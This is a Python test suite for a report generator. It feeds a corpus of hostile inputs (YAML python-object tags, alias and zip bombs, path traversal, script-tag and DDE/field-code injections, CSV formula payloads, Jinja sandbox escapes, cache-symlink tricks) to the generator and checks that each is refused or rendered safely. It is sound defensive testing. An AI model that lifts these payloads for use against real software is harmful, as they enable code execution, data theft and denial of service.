"""A corpus of hostile and broken inputs: each gives one clean line per problem, or a safe report.

Every file in tests/fixtures/hostile/ is named for its case and laid over a copy of
tests/fixtures/minimal/ at the place CASES gives. Binary files, and those whose point is a
character no editor shows, are written by tests/fixtures/hostile/make_fixtures.py.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from reportgen.errors import InputProblems, ReportgenError
from reportgen.pipeline import build, load_project
from tests.conftest import ROOT
from tests.test_pipeline import docx_text

FIXTURES = Path(__file__).parent / "fixtures"
HOSTILE = FIXTURES / "hostile"
SAFE: tuple[str, ...] = ()
CARE = "indicators/care.yaml"
LONG = "data/long.csv"
CONFIG = "reportgen.yaml"
BASE_CONFIG = (FIXTURES / "minimal" / CONFIG).read_text(encoding="utf-8")


@dataclass(frozen=True)
class Case:
    """Where a hostile file goes in the project, and the problems it must give (none: a safe build)."""

    dest: str
    problems: tuple[str, ...] = SAFE
    at_build: bool = False  # the problem shows when rendering (a template), not when loading
    formats: tuple[str, ...] = ("html", "docx", "json")
    config: str = ""  # added to reportgen.yaml
    removes: tuple[str, ...] = ()  # project files the case replaces under another name


def one(problem: str) -> tuple[str, ...]:
    return (problem,)


CSV_NOTE_LINE = "data/long.csv:5"
CASES: dict[str, Case] = {
    # -- YAML ------------------------------------------------------------------------------
    "yaml_alias_bomb.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml: expected a YAML file of at most 50,000 values (aliases expanded); got more"
        ),
    ),
    "yaml_python_object_tag.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml:3: indicators: expected plain YAML values; got the tag '!!python/object/new:os.system'"
        ),
    ),
    "yaml_python_apply_in_config.yaml": Case(
        CONFIG,
        one(
            "reportgen.yaml:1: authority: expected plain YAML values; got the tag '!!python/object/apply:subprocess.check_output'"
        ),
    ),
    "yaml_recursive_alias.yaml": Case(
        CARE,
        one("indicators/care.yaml:2: indicators: expected YAML nested at most 50 levels deep; got deeper"),
    ),
    "deeply_nested.yaml": Case(
        CARE, one("indicators/care.yaml:2: expected YAML nested at most 50 levels deep; got deeper")
    ),
    "yaml_nul_byte.yaml": Case(
        CARE, one("indicators/care.yaml:1: expected plain text; got the control character U+0000")
    ),
    "yaml_escaped_terminal_escape.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml:4: title: expected plain text; got the control character U+001B at character 1"
        ),
    ),
    "title_with_bidi_override.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml:4: title: expected plain text; got the bidirectional control U+202E "
            "RIGHT-TO-LEFT OVERRIDE at character 21, which makes text display in a different order from the "
            "one it is stored in"
        ),
    ),
    "yaml_utf16.yaml": Case(
        CARE, one("indicators/care.yaml: expected UTF-8 text; got a byte 0xff at offset 0")
    ),
    "yaml_empty.yaml": Case(
        CARE,
        one("indicators/care.yaml:1: expected a mapping with section: and indicators:; got an empty file"),
    ),
    "yaml_bom_only.yaml": Case(
        CARE,
        one("indicators/care.yaml:1: expected a mapping with section: and indicators:; got an empty file"),
    ),
    "yaml_invalid_date.yaml": Case(
        CONFIG, one("reportgen.yaml:3: meeting_date: expected a valid date; got '2023-13-45'")
    ),
    "yaml_huge_integer.yaml": Case(
        CARE, one(f"indicators/care.yaml:19: tolerance: expected a whole number; got '{'9' * 60}…'")
    ),
    "title_very_long.yaml": Case(
        CARE, one("indicators/care.yaml:4: title: expected at most 300 characters; got 6,000")
    ),
    "target_infinite.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml:9: target: expected a number smaller than 1,000,000,000,000,000 either side of zero; got inf"
        ),
    ),
    "target_not_a_number_nan.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml:9: target: expected a number smaller than 1,000,000,000,000,000 either side of zero; got nan"
        ),
    ),
    "comparator_overflow.yaml": Case(
        CARE,
        one(
            "indicators/care.yaml:10: comparators: expected a number smaller than 1,000,000,000,000,000 "
            "either side of zero; got inf"
        ),
    ),
    "config_data_glob_outside_project.yaml": Case(
        CONFIG,
        one(
            "reportgen.yaml:3: data: expected a pattern inside the project, such as data/*.csv; got '../../../../etc/*'"
        ),
    ),
    "config_logo_outside_project.yaml": Case(
        CONFIG,
        one(
            "reportgen.yaml: branding.logo: expected an image inside the project folder; got "
            "'../../../../usr/share/pixmaps/debian-logo.png'"
        ),
    ),
    "title_with_script_tag.yaml": Case(CARE),
    "title_with_jinja_expression.yaml": Case(CARE),
    "definition_with_style_close.yaml": Case(CARE, formats=("html", "docx", "json", "pdf")),
    "config_title_breaks_css.yaml": Case(CONFIG, formats=("html", "docx", "json", "pdf")),
    "commentary_with_html_and_urls.yaml": Case(
        "commentary/2023-24-Q2.yaml", formats=("html", "docx", "json", "pdf")
    ),
    "risks_title_with_script_tag.yaml": Case("risks.yaml"),
    "indicator_template_reads_class.yaml": Case(
        CARE,
        one("template for indicator visits: access to attribute '__class__' of 'str' object is unsafe."),
        at_build=True,
    ),
    "indicator_template_divides_by_zero.yaml": Case(
        CARE, one("template for indicator visits: division by zero"), at_build=True
    ),
    # -- CSV -------------------------------------------------------------------------------
    "note_with_file_url.csv": Case(LONG, formats=("html", "docx", "json", "pdf")),
    "note_with_css_import.csv": Case(LONG, formats=("html", "docx", "json", "pdf")),
    "note_with_script_tag.csv": Case(LONG),
    "note_with_docx_field_code.csv": Case(LONG),
    "note_with_formula.csv": Case(LONG),
    "mixed_line_endings.csv": Case(LONG),
    "negative_zero.csv": Case(LONG),
    "note_with_terminal_escape.csv": Case(
        LONG,
        one(
            "data/long.csv: expected plain text; got the control character U+001B at character 1 in column F of line 5"
        ),
    ),
    "note_with_bidi_override.csv": Case(
        LONG,
        one(
            "data/long.csv: expected plain text; got the bidirectional control U+202E RIGHT-TO-LEFT OVERRIDE at "
            "character 12, which makes text display in a different order from the one it is stored in in column F "
            "of line 5"
        ),
    ),
    "csv_with_nul_bytes.csv": Case(
        LONG,
        one(
            "data/long.csv: expected plain text; got the control character U+0000 at character 7 in column F of line 5"
        ),
    ),
    "huge_line.csv": Case(
        LONG,
        one("data/long.csv: expected at most 10,000 characters in a cell; got 12,000 in column F of line 5"),
    ),
    "billion_columns.csv": Case(
        LONG, one("data/long.csv: expected at most 1,000 columns; got 5,001 in line 1")
    ),
    "binary_garbage.csv": Case(
        LONG,
        one(
            "data/long.csv: expected one encoding; got UTF-8 text on line 1 and a Windows-1252 byte 0xfc on line 1"
        ),
    ),
    "bom_only.csv": Case(
        LONG,
        one("data/long.csv: expected a header row with an indicator column in the first 20 rows; found none"),
    ),
    "empty.csv": Case(
        LONG,
        one("data/long.csv: expected a header row with an indicator column in the first 20 rows; found none"),
    ),
    "csv_utf16.csv": Case(
        LONG,
        one(
            "data/long.csv: expected UTF-8 or Windows-1252 text; got UTF-16 (in Excel, save as "
            "'CSV UTF-8 (Comma delimited)')"
        ),
    ),
    "csv_actually_xlsx.csv": Case(
        LONG, one("data/long.csv: expected CSV text; got an Excel workbook (rename it to .xlsx)")
    ),
    "duplicate_headers.csv": Case(
        LONG,
        one(
            "data/long.csv:1: value: expected each column once; got a second value column in column D (the first is column C)"
        ),
    ),
    "period_overflow.csv": Case(
        LONG,
        (
            "data/long.csv:3: period: expected a period such as 2023-09, 2023-24 Q2 or 2023-24; got '99999-100000 Q2'",
            "data/long.csv:4: period: expected a period such as 2023-09, 2023-24 Q2 or 2023-24; got 'Q5 2023-24'",
            "data/long.csv:5: period: expected a period such as 2023-09, 2023-24 Q2 or 2023-24; got '2023-99'",
        ),
    ),
    "nan_inf_values.csv": Case(
        LONG,
        (
            "data/long.csv:3: value: expected a number or a marker such as c or x; got 'inf'",
            "data/long.csv:4: value: expected a number or a marker such as c or x; got '1e309'",
            "data/long.csv:5: value: expected a number or a marker such as c or x; got '-Infinity'",
        ),
    ),
    "huge_number.csv": Case(
        LONG,
        one(
            "data/long.csv:5: value: expected a number smaller than 1,000,000,000,000,000 either side of zero; got 1e+44"
        ),
    ),
    "indicator_id_is_formula.csv": Case(
        LONG,
        one("data/long.csv:2: indicator: expected the id of a defined indicator; got \"=cmd|'/C calc'!A0\""),
    ),
    # -- workbooks -------------------------------------------------------------------------
    "xlsx_zip_bomb.xlsx": Case(
        "data/long.xlsx",
        one(
            "data/long.xlsx: expected a workbook that unzips to at most 200,000,000 bytes; got 1,073,743,425 "
            "(a zip bomb, or not a council's data)"
        ),
        removes=(LONG,),
    ),
    "xlsx_billion_laughs.xlsx": Case(
        "data/long.xlsx",
        one(
            "data/long.xlsx: expected a workbook without a DTD; got one in xl/worksheets/sheet1.xml (entities are "
            "refused: they can expand without limit or name files)"
        ),
        removes=(LONG,),
    ),
    "xlsx_external_entity.xlsx": Case(
        "data/long.xlsx",
        one(
            "data/long.xlsx: expected a workbook without a DTD; got one in xl/worksheets/sheet1.xml (entities are "
            "refused: they can expand without limit or name files)"
        ),
        removes=(LONG,),
    ),
    "xlsx_not_a_workbook.xlsx": Case(
        "data/long.xlsx",
        one(
            'data/long.xlsx: expected a readable Excel workbook; got KeyError: "There is no item named '
            "'[Content_Types].xml' in the archive\""
        ),
        removes=(LONG,),
    ),
    "xlsx_truncated.xlsx": Case(
        "data/long.xlsx",
        one("data/long.xlsx: expected a readable Excel workbook; got BadZipFile: File is not a zip file"),
        removes=(LONG,),
    ),
    "xlsx_empty.xlsx": Case(
        "data/long.xlsx",
        one("data/long.xlsx: expected a readable Excel workbook; got BadZipFile: File is not a zip file"),
        removes=(LONG,),
    ),
    "xlsx_csv_renamed.xlsx": Case(
        "data/long.xlsx",
        one("data/long.xlsx: expected a readable Excel workbook; got BadZipFile: File is not a zip file"),
        removes=(LONG,),
    ),
    "xlsx_far_away_cell.xlsx": Case(
        "data/long.xlsx",
        one("data/long.xlsx: expected at most 200,000 rows; got more (at row Data!200001)"),
        removes=(LONG,),
    ),
    "xlsx_infinite_value.xlsx": Case(
        "data/long.xlsx",
        one(
            "data/long.xlsx: expected a readable Excel workbook; got ValueError: invalid literal for int() with base 10: 'inf'"
        ),
        removes=(LONG,),
    ),
    "xlsx_formula_hyperlink.xlsx": Case("data/long.xlsx", removes=(LONG,)),
    "xlsx_external_link.xlsx": Case("data/long.xlsx", removes=(LONG,)),
    # -- templates, stylesheets and images -------------------------------------------------
    "template_reads_os_environ.html.j2": Case(
        "templates/report.html.j2",
        one("templates/report.html.j2:4: access to attribute '__init__' of 'type' object is unsafe."),
        at_build=True,
    ),
    "template_reads_class_mro.html.j2": Case(
        "templates/report.html.j2",
        one("templates/report.html.j2:4: access to attribute '__class__' of 'str' object is unsafe."),
        at_build=True,
    ),
    "template_with_syntax_error.html.j2": Case(
        "templates/report.html.j2",
        one("templates/report.html.j2:4: unexpected '}'"),
        at_build=True,
    ),
    "css_import_file_url.css": Case("templates/report.css", formats=("pdf",)),
    "css_url_dot_dot_escape.css": Case("templates/report.css", formats=("pdf",)),
    "css_url_http.css": Case("templates/report.css", formats=("pdf",)),
    "logo_decompression_bomb.png": Case(
        "branding/logo.png",
        one("reportgen.yaml: branding.logo: expected an image of at most 25,000,000 pixels; got far more"),
        config="branding:\n  logo: branding/logo.png\n",
    ),
    "logo_not_an_image.png": Case(
        "branding/logo.png",
        one(
            "reportgen.yaml: branding.logo: expected a readable PNG or JPEG image; 'branding/logo.png' is not one"
        ),
        config="branding:\n  logo: branding/logo.png\n",
    ),
    # -- round two (issue 14): unbounded work, one-line failures -----------------------------
    "period_padded_with_spaces.csv": Case(
        LONG,
        one(
            "data/long.csv:5: period: expected a period such as 2023-09, 2023-24 Q2 or 2023-24; got "
            f"{'Q1' + ' ' * 38!r}… (9,993 characters)"
        ),
    ),
    "value_of_five_thousand_characters.csv": Case(
        LONG,
        one(
            "data/long.csv:5: value: expected a number or a marker such as c or x; got "
            f"{'9' * 60!r}… (5,000 characters)"
        ),
    ),
    "template_repeats_a_string_a_trillion_times.html.j2": Case(
        "templates/report.html.j2",
        one(
            "templates/report.html.j2:4: repeating str 1,000,000,000,000 times is refused (more than "
            "100,000 items)"
        ),
        at_build=True,
    ),
    "config_title_over_200_characters.yaml": Case(
        CONFIG, one("reportgen.yaml:2: title: expected at most 200 characters; got 240")
    ),
    "data_pattern_starting_with_two_slashes.yaml": Case(
        CONFIG,
        one(
            "reportgen.yaml:3: data: expected a pattern inside the project, such as data/*.csv; got '//etc/*.csv'"
        ),
    ),
    "logo_really_webp.png": Case(
        "branding/logo.png",
        one(
            "reportgen.yaml: branding.logo: expected a readable PNG or JPEG image; 'branding/logo.png' is not "
            "one (it is WEBP)"
        ),
        config="branding:\n  logo: branding/logo.png\n",
    ),
    "reference_not_word.docx": Case(
        "templates/reference.docx",
        one(
            "templates/reference.docx: expected a Word document (.docx) with styles; 'templates/reference.docx' "
            "is not one (save the house template from Word as a .docx)"
        ),
    ),
    "comparator_label_with_dollar_maths.yaml": Case(
        CARE,
        # a comparator of the project's own is named in comparator_labels (with its words)
        config='comparator_labels:\n  national: "$\\\\frac{1}{$ average"\n  "$\\\\sqrt{$": "$\\\\sqrt{$ average"\n',
        formats=("html", "docx", "json", "pdf"),
    ),
    "section_titled_summary.yaml": Case(CARE, formats=("html", "docx", "json", "pdf")),
    "less_than_ten_marker.csv": Case(LONG, formats=("html", "docx", "json")),
}


def test_the_corpus_is_every_file_and_at_least_forty() -> None:
    files = sorted(p.name for p in HOSTILE.iterdir() if p.name != "make_fixtures.py" and p.is_file())
    assert files == sorted(CASES)
    assert len(files) >= 40


def project_with(tmp_path: Path, name: str) -> Path:
    """Return a copy of the minimal project with the hostile file laid over it."""
    case = CASES[name]
    root = tmp_path / "project"
    shutil.copytree(FIXTURES / "minimal", root)
    for path in case.removes:
        (root / path).unlink()
    target = root / case.dest
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(HOSTILE / name, target)
    if case.config:
        (root / CONFIG).write_text(BASE_CONFIG + case.config, encoding="utf-8")
    return root


@pytest.mark.parametrize("name", sorted(CASES))
def test_each_hostile_input_gives_clean_errors_or_a_safe_report(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    case = CASES[name]
    root = project_with(tmp_path, name)
    out = tmp_path / "out"
    if case.problems and not case.at_build:
        with pytest.raises(InputProblems) as info:
            load_project(root)
        got = [str(p) for p in info.value.problems if p.severity == "error"]
        assert got == list(case.problems)
        assert all("\n" not in line for line in got)
        return
    load_project(root)
    fetched = record_fetches(monkeypatch)
    if case.problems:
        with pytest.raises(ReportgenError) as failed:
            build(root, "Q2-2023", output=out, formats=tuple(case.formats))
        assert str(failed.value) == case.problems[0]
        assert not out.exists() or not any(out.iterdir())
        return
    paths = {p.suffix.lstrip("."): p for p in build(root, "Q2-2023", output=out, formats=tuple(case.formats))}
    check_safe(paths, fetched)


# -- what a safe report is --------------------------------------------------------------------

# The only elements the shipped template writes: anything else came from someone's text. A part
# becomes a section, an article or a nav, headed h2 to h6, by name in the template.
TEMPLATE_TAGS = set(
    re.findall(r"<([a-z][a-z0-9]*)\b", (ROOT / "templates" / "report.html.j2").read_text(encoding="utf-8"))
) | {"section", "article", "nav", "h2", "h3", "h4", "h5", "h6"}
DOCX_FIELDS = {"TOC", "PAGE", "NUMPAGES"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def check_safe(paths: dict[str, Path], fetched: list[tuple[str, bool]]) -> None:
    """Assert that no text turned into markup, fields, links or fetches in any format built."""
    if "html" in paths:
        html = paths["html"].read_text(encoding="utf-8")
        parser = _Tags()
        parser.feed(html)
        names = {tag for tag, _ in parser.tags}
        assert names <= TEMPLATE_TAGS, names - TEMPLATE_TAGS
        assert html.count("</style>") == 1 and html.count("<style>") == 1
        for tag, attrs in parser.tags:
            if tag == "img":
                assert str(attrs.get("src")).startswith("data:image/")
            if tag == "a":
                assert str(attrs.get("href")).startswith("#")
            assert not any(key.startswith("on") for key in attrs)
    if "docx" in paths:
        with zipfile.ZipFile(paths["docx"]) as docx:
            for name in docx.namelist():
                if not name.endswith((".xml", ".rels")):
                    continue
                from lxml import etree

                root = etree.fromstring(docx.read(name))  # every part is well-formed XML
                ns = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
                fields = [el.get(f"{ns}instr") for el in root.iter(f"{ns}fldSimple")]
                fields += [el.text for el in root.iter(f"{ns}instrText")]
                assert {str(f).split()[0] for f in fields} <= DOCX_FIELDS, fields
                assert b'TargetMode="External"' not in docx.read(name)
    if "json" in paths:
        json.loads(paths["json"].read_text(encoding="utf-8"))
    for url, served in fetched:
        assert not served or embedded(url) or inside_templates(url), url


def embedded(url: str) -> bool:
    """Return whether a URL names data inside the report: a data: URI or one of its charts."""
    from reportgen.render.html import CHART_SCHEME

    return url.startswith(("data:", CHART_SCHEME))


def inside_templates(url: str) -> bool:
    """Return whether a file: URL names a file inside a templates folder, once ../ is resolved."""
    from urllib.parse import unquote, urlparse

    path = Path(unquote(urlparse(url).path)).resolve()
    return url.startswith("file:") and path.parent.name == "templates" and path.is_file()


def record_fetches(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, bool]]:
    """Record every URL WeasyPrint asks for, and whether the fetcher served it."""
    import reportgen.render.pdf as render_pdf

    seen: list[tuple[str, bool]] = []
    original = render_pdf.safe_fetcher

    def recording(allowed: list[Path], charts: Any = None) -> Any:
        fetcher = original(allowed, charts)
        fetch = fetcher.fetch

        def fetch_and_record(url: str, headers: Any = None) -> Any:
            try:
                response = fetch(url, headers)
            except ValueError:
                seen.append((url, False))
                raise
            seen.append((url, True))
            return response

        fetcher.fetch = fetch_and_record
        return fetcher

    monkeypatch.setattr(render_pdf, "safe_fetcher", recording)
    return seen


@pytest.mark.parametrize(
    "name", ["css_import_file_url.css", "css_url_dot_dot_escape.css", "css_url_http.css"]
)
def test_a_stylesheet_reaching_outside_is_refused_by_the_fetcher(
    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    fetched = record_fetches(monkeypatch)
    build(project_with(tmp_path, name), "Q2-2023", output=tmp_path / "out", formats=("pdf",))
    refused = [url for url, served in fetched if not served]
    assert refused and all(not embedded(url) for url in refused)
    assert all(embedded(url) for url, served in fetched if served)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("title_with_script_tag.yaml", "&lt;script&gt;alert(document.cookie)&lt;/script&gt; visits"),
        ("title_with_jinja_expression.yaml", "{{ 7*7 }} visits {% raw %}{{ config }}{% endraw %}"),
        (
            "note_with_script_tag.csv",
            "&lt;script&gt;alert(1)&lt;/script&gt;&lt;/style&gt;&lt;/title&gt;{{ 7*7 }}",
        ),
        ("note_with_file_url.csv", "&lt;img src=&#34;file:///etc/passwd&#34;&gt;"),
        ("note_with_formula.csv", "=HYPERLINK(&#34;http://example.invalid/?&#34;&amp;A1,&#34;Click&#34;)"),
    ],
)
def test_text_is_printed_as_written_in_html(tmp_path: Path, name: str, text: str) -> None:
    paths = build(project_with(tmp_path, name), "Q2-2023", output=tmp_path / "out", formats=("html",))
    html = paths[0].read_text(encoding="utf-8")
    assert text in html
    assert "49 visits" not in html


def test_field_codes_in_a_note_are_plain_text_in_the_docx(tmp_path: Path) -> None:
    from lxml import etree

    paths = build(
        project_with(tmp_path, "note_with_docx_field_code.csv"),
        "Q2-2023",
        output=tmp_path / "out",
        formats=("docx",),
    )
    with zipfile.ZipFile(paths[0]) as docx:
        body = etree.fromstring(docx.read("word/document.xml"))
    ns = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    text = "".join(t.text or "" for t in body.iter(f"{ns}t"))
    assert '{ INCLUDETEXT "/etc/passwd" }' in text
    assert "<w:instrText>DDEAUTO" in text


def test_a_stylesheet_cannot_escape_the_css_string_in_the_pdf_header(tmp_path: Path) -> None:
    paths = build(
        project_with(tmp_path, "config_title_breaks_css.yaml"),
        "Q2-2023",
        output=tmp_path / "out",
        formats=("html",),
    )
    html = paths[0].read_text(encoding="utf-8")
    style = html[html.index("<style>") : html.index("</style>")]
    assert "@import" not in style.replace("@import url(", "")  # the shipped CSS imports nothing
    assert "url(file" not in style and "url(http" not in style


def test_negative_zero_is_printed_as_zero(tmp_path: Path) -> None:
    paths = build(
        project_with(tmp_path, "negative_zero.csv"),
        "Q2-2023",
        output=tmp_path / "out",
        formats=("html", "json"),
    )
    html = paths[0].read_text(encoding="utf-8")
    assert "-0" not in html.replace("--", "") and "−0" not in html
    record = json.loads(paths[1].read_text(encoding="utf-8"))["indicators"][1]
    assert record["id"] == "placements" and record["display_value"] == "0"


def test_an_alias_bomb_is_refused_after_a_bounded_number_of_values(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # bounded work, not a stopwatch: the loader builds at most MAX_NODES values, then stops
    from reportgen import yaml_source

    built: list[int] = []
    real = yaml_source._Builder.build

    def counting(self: object, node: object, loc: object) -> object:
        built.append(1)
        return real(self, node, loc)  # type: ignore[arg-type]

    monkeypatch.setattr(yaml_source._Builder, "build", counting)
    with pytest.raises(InputProblems):
        load_project(project_with(tmp_path, "yaml_alias_bomb.yaml"))
    # (keys are built too, and the project's other files): a bound, where the bomb has billions
    assert yaml_source.MAX_NODES < len(built) < 2 * yaml_source.MAX_NODES


def test_a_zip_bomb_is_refused_without_unzipping_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # refused from the archive's own table of sizes: no part of it is ever decompressed
    import zipfile

    def never(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("a part of the zip bomb was opened")

    monkeypatch.setattr(zipfile.ZipFile, "open", never)
    with pytest.raises(InputProblems):
        load_project(project_with(tmp_path, "xlsx_zip_bomb.xlsx"))


@pytest.mark.parametrize(
    "name",
    [
        "yaml_alias_bomb.yaml",
        "xlsx_zip_bomb.xlsx",
        "csv_with_nul_bytes.csv",
        "template_reads_os_environ.html.j2",
    ],
)
def test_the_cli_gives_one_line_and_exit_1_never_a_traceback(tmp_path: Path, name: str) -> None:
    root = project_with(tmp_path, name)
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "reportgen.cli",
            "build",
            "Q2-2023",
            "--project",
            str(root),
            "--format",
            "html",
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    lines = result.stderr.splitlines()
    case = CASES[name]
    if case.at_build:
        assert lines == [f"reportgen: error: {case.problems[0]}"]
    else:
        assert lines == [*case.problems, "reportgen: 1 error; nothing was written"]
    assert not (root / "output").exists() or not any((root / "output").glob("*/*"))


def test_a_build_opens_no_network_connection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import socket

    attempts: list[object] = []

    def refuse(self: socket.socket, address: object) -> None:
        attempts.append(address)
        raise OSError("network refused by the test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    root = project_with(tmp_path, "css_url_http.css")  # a stylesheet naming http, https and ftp URLs
    shutil.copyfile(HOSTILE / "note_with_css_import.csv", root / "data" / "long.csv")
    build(root, "Q2-2023", output=tmp_path / "out", formats=("pdf", "html", "docx", "json"))
    assert attempts == []


# -- round two (issue 14): what the second hostile review found ------------------------------
# Each test is named for a finding; each failed on the code the review was made against.

MINIMAL = FIXTURES / "minimal"
DISCLOSURE = FIXTURES / "disclosure"
STEM = "test-scorecard-q2-2023"


def minimal_copy(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    shutil.copytree(MINIMAL, root)
    return root


def example_copy(tmp_path: Path) -> Path:
    """Return a copy of the shipped example project's inputs (37 charts: a build takes a while)."""
    root = tmp_path / "example"
    root.mkdir()
    for name in ("reportgen.yaml", "risks.yaml"):
        shutil.copyfile(ROOT / name, root / name)
    for name in ("indicators", "data", "branding"):
        shutil.copytree(ROOT / name, root / name)
    return root


def run_cli(args: list[str], cwd: Path, **limits: Any) -> subprocess.CompletedProcess[str]:
    """Run the CLI in a child process (with resource limits, e.g. memory=2**30) and a hang guard."""

    def limited() -> None:
        import resource

        if "memory" in limits:
            resource.setrlimit(resource.RLIMIT_AS, (limits["memory"], limits["memory"]))

    return subprocess.run(
        [sys.executable, "-m", "reportgen.cli", *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=120,  # a hang guard, not a speed test: the behaviour under test answers at once
        preexec_fn=limited,
    )


# -- 1. cache poisoning --


def test_a_link_planted_in_the_document_cache_is_never_published(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    out = tmp_path / "out"
    build(root, "Q2-2023", output=out, formats=("pdf", "docx"))
    secret = tmp_path / "secret.pdf"
    secret.write_bytes(b"%PDF-1.7\nPK\x03\x04 the council's 0600 secret\n")
    secret.chmod(0o600)
    documents = root / ".reportgen-cache" / "documents"
    planted = [p for p in documents.iterdir() if p.suffix in (".pdf", ".docx")]
    assert len(planted) == 2
    for entry in planted:
        entry.unlink()
        entry.symlink_to(secret)
    paths = build(root, "Q2-2023", output=out, formats=("pdf", "docx"))
    for path in paths:
        assert path.read_bytes() != secret.read_bytes()
        assert b"the council's 0600 secret" not in path.read_bytes()
    assert paths[0].read_bytes().startswith(b"%PDF-") and zipfile.is_zipfile(paths[1])


def test_no_predictable_temporary_name_in_the_cache_can_catch_a_write(tmp_path: Path) -> None:
    import os

    root = minimal_copy(tmp_path)
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"untouched\n")
    for kind in ("documents", "charts"):
        folder = root / ".reportgen-cache" / kind
        folder.mkdir(parents=True)
        for fmt in ("pdf", "docx", "png", "svg"):  # the names the old cache wrote through
            (folder / f".{os.getpid()}.{fmt}.tmp").symlink_to(victim)
    build(root, "Q2-2023", output=tmp_path / "out", formats=("pdf", "docx"))
    assert victim.read_bytes() == b"untouched\n"


# -- 2. a stale Word file --


def test_a_figure_marked_c_after_a_build_is_not_printed_by_the_cached_docx(tmp_path: Path) -> None:
    root = minimal_copy(tmp_path)
    (root / "templates").mkdir()
    # the project's own page prints no figures: a key made from it cannot see one change
    (root / "templates" / "report.html.j2").write_text(
        '<!DOCTYPE html>\n<html lang="en-GB"><head><title>{{ b.title }}</title></head>\n'
        "<body><h1>{{ b.title }}</h1></body></html>\n",
        encoding="utf-8",
    )
    out = tmp_path / "out"
    before = build(root, "Q2-2023", output=out, formats=("docx", "html", "json"))
    assert "183" in docx_text(before[0])
    data = root / "data" / "long.csv"
    data.write_text(
        data.read_text(encoding="utf-8").replace("visits,2023-24 Q2,91.5,183,200,", "visits,2023-24 Q2,c,,,"),
        encoding="utf-8",
    )
    after = build(root, "Q2-2023", output=out, formats=("docx", "html", "json"))
    assert json.loads(after[2].read_text(encoding="utf-8"))["indicators"][0]["value"] is None
    text = docx_text(after[0])  # narratives included: they sit in content controls
    assert "91.5" not in text and "183" not in text


# -- 3. disclosure by algebra --


def test_a_note_on_a_withheld_figure_is_a_warning(tmp_path: Path) -> None:
    root = tmp_path / "p"
    shutil.copytree(DISCLOSURE, root)
    path = root / "data" / "long.csv"
    path.write_text(
        path.read_text(encoding="utf-8").replace(
            "referrals_health,2023-24 Q2,1549,,,", "referrals_health,2023-24 Q2,1549,,,Up 45 on last quarter"
        ),
        encoding="utf-8",
    )
    project = load_project(root)
    assert project.data.get("referrals_health").observations[-1].withheld == "referrals"
    assert [str(p) for p in project.data.warnings] == [
        "data/long.csv:9: note: warning: expected no figures in a note on a value withheld to protect a "
        "suppressed one; got 45 (notes are published as written: check it cannot reveal the suppressed figure)"
    ]


def overlapping_totals(tmp_path: Path) -> Path:
    root = minimal_copy(tmp_path)
    shutil.copytree(HOSTILE / "overlapping_totals", root, dirs_exist_ok=True)
    return root


def test_three_overlapping_totals_cannot_give_away_a_suppressed_part(tmp_path: Path) -> None:
    # x = a + b, y = a + c, z = b + c: with all three published, a = (x + y - z) / 2
    project = load_project(overlapping_totals(tmp_path))
    for code in ("2023-24 Q1", "2023-24 Q2"):
        shown = {}
        for key in ("a", "b", "c", "x", "y", "z"):
            obs = next(o for o in project.data.get(key).observations if o.period.code == code)
            shown[key] = obs.value if obs.status == "ok" else None
        for key in ("a", "b", "c"):
            if shown[key] is None:
                assert len(consistent_values(shown, key)) > 1, (code, key, shown)
    q2 = {k: project.data.get(k).observations[-1] for k in ("x", "y", "z")}
    assert [k for k, o in q2.items() if o.withheld] == ["z"]  # the smallest total


def consistent_values(shown: dict[str, float | None], key: str) -> set[int]:
    """Return every whole value ``key`` can take that fits the published figures (found by trying them all)."""
    import itertools

    hidden = [k for k, v in shown.items() if v is None]
    top = int(max(v for v in shown.values() if v is not None))
    found = set()
    for guess in itertools.product(range(top + 1), repeat=len(hidden)):
        figure = {**shown, **dict(zip(hidden, guess, strict=True))}
        if (figure["x"], figure["y"], figure["z"]) == (
            figure["a"] + figure["b"],
            figure["a"] + figure["c"],
            figure["b"] + figure["c"],
        ):
            found.add(int(figure[key] or 0))
    return found


def test_a_less_than_10_marker_is_not_printed_as_fewer_than_5(tmp_path: Path) -> None:
    paths = build(
        project_with(tmp_path, "less_than_ten_marker.csv"),
        "Q2-2023",
        output=tmp_path / "out",
        formats=("html",),
    )
    html = paths[0].read_text(encoding="utf-8")
    assert "fewer than 10 in Quarter 2 2023/24" in html
    assert "fewer than 5" not in html


# -- 4. unbounded work --


def test_a_fifo_in_indicators_is_refused_not_waited_on(tmp_path: Path) -> None:
    import os

    root = minimal_copy(tmp_path)
    os.mkfifo(root / "indicators" / "extra.yaml")
    result = run_cli(["validate", "Q2-2023"], root)
    assert result.stdout.splitlines() == [
        "indicators/extra.yaml: expected a regular file; got a named pipe (FIFO)",
        "reportgen: 1 error, 0 warnings",
    ]


